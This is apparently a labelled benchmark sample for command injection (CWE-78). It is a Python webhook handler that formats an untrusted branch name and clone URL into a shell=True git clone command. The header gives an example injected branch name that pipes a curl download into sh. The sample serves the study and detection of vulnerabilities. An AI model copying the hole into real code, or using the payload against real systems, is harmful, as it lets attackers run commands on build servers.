# ---
# id: cwe78-r3-webhook-git-mirror-v
# cwe: CWE-78
# vulnerable: true
# twin: none
# tags: subprocess, git
# explanation: A push-webhook handler of a CI build cache re-clones the pushed branch. The branch name and clone URL come from the webhook JSON, which anyone who can push a branch (or post to the unauthenticated hook) controls; they are formatted into a shell command with shell=True, so a branch named 'x;curl${IFS}host|sh' (';' is legal in git ref names) runs commands.
# ---
import subprocess

CACHE = "/var/cache/builds"


def on_push(payload):
    """Webhook handler: refresh the build cache for the pushed branch."""
    repo_url = payload["repository"]["clone_url"]
    branch = payload["ref"].rsplit("/", 1)[-1]
    dest = "%s/%s" % (CACHE, payload["repository"]["id"])
    subprocess.run(f"rm -rf {dest} && git clone --depth 1 -b {branch} {repo_url} {dest}",  #@vuln
                   shell=True, check=True)
    return dest
